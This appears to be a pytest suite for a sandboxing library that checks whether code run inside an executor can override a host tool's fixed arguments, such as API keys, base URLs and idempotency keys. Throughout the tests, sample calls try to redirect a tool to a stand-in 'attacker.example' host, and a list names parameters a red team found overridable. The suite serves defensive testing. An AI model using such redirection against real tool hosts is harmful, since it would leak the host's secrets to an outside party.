"""Issue 52, row 1: the code sets only what the tool lets it set. Each test runs on every
isolating executor this host starts; a host tool records what it was called with, so a test
shows both that the code got a ``TypeError`` and that the tool never saw the attacker's value
(nor the code the host's: the secret appears nowhere in the run's outcome)."""

from __future__ import annotations

import functools
import json
from collections.abc import Callable
from typing import Annotated, Any

import pytest
from langchain_core.tools import InjectedToolArg

import ringzero
from ringzero.core.contract.protocols import Executor
from ringzero.core.contract.types import ExecLimits, ExecResult
from tests.executors import sandbox_calling_tools  # noqa: F401 - the `sandbox` fixture here: Monty answering tools in its thread too

LIMITS = ExecLimits(wall_seconds=10.0)
SECRET = "sk-host-secret"
API = "https://api.example.com"
ATTACKER = "http://attacker.example"
TRY = ("out = []\nfor attempt in ATTEMPTS:\n    try:\n        attempt()\n        out.append('accepted')\n"
       "    except TypeError as e:\n        out.append(str(e))\nout")
"""Code that makes each call of ``ATTEMPTS`` (lambdas defined before it) and lists what became of it."""


def attempts(*calls: str) -> str:
    return "ATTEMPTS = [" + ", ".join(f"lambda: {call}" for call in calls) + "]\n" + TRY


def no_secret_in(result: ExecResult) -> bool:
    return SECRET not in json.dumps(result.to_dict(), default=str)


async def run(sandbox: Executor, code: str, tools: dict[str, Callable[..., Any]]) -> ExecResult:
    result = await sandbox.run(code, tools=tools, limits=LIMITS)
    assert result.error is None, result
    assert no_secret_in(result), result  # the TypeError never quotes the host's value, nor does any record
    return result


async def test_1_a_positional_argument_cannot_fill_a_host_default(sandbox: Executor) -> None:
    seen: list[tuple[str, str]] = []

    def fetch(path: str, base_url: str = API, api_key: str = SECRET) -> str:
        seen.append((base_url, api_key))
        return base_url + path

    result = await run(sandbox, attempts(f"fetch('/x', {ATTACKER!r})", f"fetch('/x', {ATTACKER!r}, 'mine')",
                                         "fetch('/y')"), {"fetch": fetch})
    assert [o.split(":")[0] for o in result.value[:2]] == ["fetch() does not let the code set 'base_url'"] * 2
    assert result.value[2] == "accepted" and seen == [(API, SECRET)]


HOST_NAMES = ["hostname", "server", "dsn", "conn_str", "webhook", "proxy", "proxies", "baseUrl", "apiUrl",
              "accessToken", "apiToken", "headers", "auth", "creds", "cookies", "passphrase", "pwd", "jwt", "bearer",
              "client_id", "bucket", "region", "verify", "ssl_verify", "cert", "account", "tenant", "smtp", "domain",
              "origin", "registry"]
"""The names the red team found overridable: the rule must not depend on any of them."""


async def test_1_no_default_is_the_code_s_whatever_its_name(sandbox: Executor) -> None:
    seen: list[object] = []
    tools = {}
    for name in HOST_NAMES:
        namespace: dict[str, Any] = {"seen": seen, "SECRET": SECRET}
        exec(f"def tool_{name}(x, {name}=SECRET):\n    seen.append({name})\n    return x", namespace)
        tools[f"tool_{name}"] = namespace[f"tool_{name}"]
    code = attempts(*(f"tool_{name}(1, {name}={ATTACKER!r})" for name in HOST_NAMES))
    result = await run(sandbox, code, tools)
    assert [o.endswith(f"set {n!r}: the host keeps its value (the tool's author may allow it with "
                       f"@ringzero.code_may_set({n!r}))") for o, n in zip(result.value, HOST_NAMES, strict=True)] \
        == [True] * len(HOST_NAMES), result.value
    assert seen == []


def passes_on(path: str, **kwargs: Any) -> str:
    """A tool without named defaults: it hands its keywords on to the client it wraps."""
    return str(kwargs.get("url", API)) + path + str(kwargs.get("api_key", SECRET))[:0]


def without_wraps(function: Callable[..., Any]) -> Callable[..., Any]:
    def wrapper(*args: Any, **kwargs: Any) -> Any:  # a decorator that forgot functools.wraps
        return function(*args, **kwargs)
    return wrapper


@without_wraps
def fetch_unwrapped(path: str, base_url: str = API, api_key: str = SECRET) -> str:
    return base_url + path


def with_wraps(function: Callable[..., Any]) -> Callable[..., Any]:
    @functools.wraps(function)
    def wrapper(*args: Any, **kwargs: Any) -> Any:
        return function(*args, **kwargs)
    return wrapper


@with_wraps
def fetch_wrapped(path: str, base_url: str = API, api_key: str = SECRET) -> str:
    return base_url + path


class Client:
    """A callable object: its host values are defaults of ``__call__``."""

    def __call__(self, path: str, server: str = API, accessToken: str = SECRET) -> str:
        return server + path


def configured(path: str, settings: dict[str, str] | None = None, client: Client | None = None) -> str:
    settings = settings or {"url": API, "token": SECRET}
    return settings["url"] + path


CONFIG_DEFAULT = {"url": API, "token": SECRET}


def configured_by_default(path: str, settings: dict[str, str] = CONFIG_DEFAULT) -> str:
    return settings["url"] + path


@pytest.mark.parametrize(("tool", "calls", "refused"), [
    (passes_on, [f"tool('/x', url={ATTACKER!r})", "tool('/x', api_key='mine')"], ["url", "api_key"]),
    (fetch_wrapped, [f"tool('/x', base_url={ATTACKER!r})", f"tool('/x', {ATTACKER!r})"], ["base_url", "base_url"]),
    (Client(), [f"tool('/x', server={ATTACKER!r})", "tool('/x', accessToken='mine')"], ["server", "accessToken"]),
    (configured_by_default, [f"tool('/x', settings={{'url': {ATTACKER!r}, 'token': 'mine'}})"], ["settings"]),
    (configured, [f"tool('/x', None, {{'url': {ATTACKER!r}}})"], ["settings"]),
], ids=["**kwargs", "a decorator with functools.wraps", "a callable object", "a config-object default",
        "a config object passed by position"])
async def test_1_tool_shapes_without_named_defaults_get_only_what_they_declare(
        sandbox: Executor, tool: Callable[..., Any], calls: list[str], refused: list[str]) -> None:
    result = await run(sandbox, attempts(*calls, "tool('/ok')"), {"tool": tool})
    for outcome, parameter in zip(result.value, refused, strict=False):
        assert outcome != "accepted" and parameter in outcome, (outcome, parameter)
    assert result.value[-1] == "accepted"
    made = [c for c in result.tool_calls if c.error is None]
    assert len(made) == 1 and ATTACKER not in json.dumps([c.args for c in made] + [c.kwargs for c in made])


async def test_1_a_decorator_without_functools_wraps_passes_nothing_it_does_not_declare(sandbox: Executor) -> None:
    """Its ``(*args, **kwargs)`` hides the parameters it hands on: no argument is the code's
    until the author declares them (or restores the signature with ``functools.wraps``)."""
    result = await run(sandbox, attempts(f"tool('/x', {ATTACKER!r})", f"tool('/x', base_url={ATTACKER!r})",
                                         "tool('/x')"), {"tool": fetch_unwrapped})
    assert all("(*args)" in outcome for outcome in result.value), result.value
    assert [c.error is None for c in result.tool_calls] == [False] * 3


@ringzero.code_may_set("sort_key", "limit")
def listing(table: str, sort_key: str = "name", limit: int = 10, api_key: str = SECRET) -> list[object]:
    return [table, sort_key, limit]


@ringzero.code_may_set("timeout")
def request(path: str, **options: Any) -> dict[str, Any]:
    return {"path": path, "options": options}


@ringzero.code_may_set("numbers")
def total(*numbers: int) -> int:
    return sum(numbers)


async def test_1_what_the_author_declares_the_code_may_set(sandbox: Executor) -> None:
    result = await run(sandbox, attempts("listing('items', limit=3)", "listing('items', 'price', 2)",
                                         "listing('items', api_key='mine')", "request('/x', timeout=5)",
                                         f"request('/x', url={ATTACKER!r})", "total(1, 2, 3)"),
                       {"listing": listing, "request": request, "total": total})
    assert result.value[:2] == ["accepted", "accepted"]
    assert "'api_key'" in result.value[2] and result.value[3] == "accepted" and "'url'" in result.value[4]
    assert result.value[5] == "accepted"
    assert [c.result for c in result.tool_calls if c.error is None] == [
        ["items", "name", 3], ["items", "price", 2], {"path": "/x", "options": {"timeout": 5}}, 6]


def search(query: str, api_key: str = "") -> str:
    return query.upper()


def charge(amount: int, idempotency_key: str = "") -> str:
    return idempotency_key


async def test_1_a_partial_s_keyword_and_the_idempotency_key_stay_the_host_s(sandbox: Executor) -> None:
    tools = {"search": ringzero.code_may_set("api_key")(functools.partial(search, api_key=SECRET)),
             "charge": ringzero.code_may_set("idempotency_key")(charge)}
    result = await run(sandbox, attempts("search('a', api_key='mine')", "charge(5, idempotency_key='mine')",
                                         "charge(5, 'mine')", "search('a')"), tools)
    assert "is fixed by the host" in result.value[0], result.value  # declared or not
    assert "passed by the kernel" in result.value[1] and "passed by the kernel" in result.value[2]
    assert result.value[3] == "accepted"


async def test_1_a_call_that_does_not_fit_is_refused_before_the_tool_runs(sandbox: Executor) -> None:
    ran: list[object] = []

    def lookup(city: str) -> str:
        ran.append(city)
        return city

    result = await run(sandbox, attempts("lookup()", "lookup('a', 'b')", "lookup('a', town='x')"), {"lookup": lookup})
    assert result.value == ["lookup(): missing a required argument: 'city'", "lookup(): too many positional arguments",
                            "lookup(): got an unexpected keyword argument 'town'"], result.value
    assert ran == []


async def test_1_a_kernel_process_s_tool_gets_the_kernel_s_idempotency_key() -> None:
    from ringzero import Kernel
    from ringzero.checkpointers import MemoryCheckpointer

    async def program(ctx: Any) -> object:
        out = await ctx.exec(attempts("charge(1, idempotency_key='mine')", "charge(2)"), tools={"charge": charge})
        return [out.value, [c.result for c in out.tool_calls if c.error is None]]

    async with Kernel(checkpointer=MemoryCheckpointer()) as kernel:
        outcomes, keys = await (await kernel.spawn(program)).wait()
    assert "passed by the kernel" in outcomes[0] and outcomes[1] == "accepted"
    assert len(keys) == 1 and keys[0].startswith("rz-") and keys[0] != "mine"


def test_1_the_model_is_not_shown_the_host_s_values() -> None:
    """A code agent describes each tool to the model by its signature: the host's parameters
    (and so their values) are left out of it."""
    from ringzero.agents.registry import signature_of

    def fetch(path: str, base_url: str = API, api_key: str = SECRET) -> str:
        return path

    assert signature_of(fetch) == "(path: str) -> str"
    assert signature_of(listing) == "(table: str, sort_key: str = 'name', limit: int = 10) -> list[object]"
    assert signature_of(request) == "(path: str, *, timeout=...) -> dict[str, typing.Any]"


async def test_1_a_langchain_tool_s_schema_is_its_declaration() -> None:
    """``code_tool``: the fields the model may set are the code's (an optional one too); an
    injected argument is the host's."""
    from langchain_core.tools import tool

    from ringzero.adapters.langgraph import code_tool
    from ringzero.providers.executors import MontyExecutor

    @tool
    def lookup(city: str, user: Annotated[str, InjectedToolArg] = "guest", units: str = "metric") -> str:
        """Weather for a city."""
        return f"{city} {units} for {user}"

    executor = MontyExecutor(max_workers=1)
    try:
        run_python = code_tool([lookup], executor=executor)
        out = await run_python.ainvoke({"code": attempts("lookup('Oslo', units='imperial')",
                                                         "lookup('Oslo', user='admin')", "lookup('Oslo', 'kelvin')")})
    finally:
        await executor.aclose()
    assert "lookup(city, units)" in run_python.description
    assert out == ("Result: ['accepted', \"lookup(): got an unexpected keyword argument 'user'\", 'accepted']"), out
